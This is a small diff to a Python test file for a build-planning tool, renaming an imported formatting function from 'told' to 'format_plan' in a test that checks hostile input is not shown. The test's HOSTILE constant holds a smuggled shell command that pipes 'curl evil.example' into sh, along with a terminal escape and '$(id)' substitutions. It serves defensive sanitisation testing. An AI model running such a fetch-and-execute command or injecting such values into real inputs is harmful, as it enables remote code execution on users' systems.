@@ -8,7 +8,7 @@ from calotype.backends import compatibility as trust
 from calotype.errors import SourceError
 from calotype.export.builder.spec import BuildSpec, spec_from
 from calotype.plan.command import SPEC, rebuild_command
-from calotype.plan.inspection import told
+from calotype.plan.inspection import format_plan
 from calotype.plan.plan import read_plan
 
 HOSTILE = "x; curl evil.example | sh #\n\x1b[2J$(id)`id`"
@@ -60,7 +60,7 @@ def test_a_hostile_command_is_not_shown(editable):
     editable.data["build"] |= {"command": f"calotype build {HOSTILE}"}
     editable.data["build"]["spec"]["model"] = HOSTILE
     plan = read_plan(editable.seal())
-    shown = told(plan)
+    shown = format_plan(plan)
     assert "\x1b" not in shown
     (line,) = (line for line in shown.splitlines() if "calotype build" in line)
     assert "curl" not in line
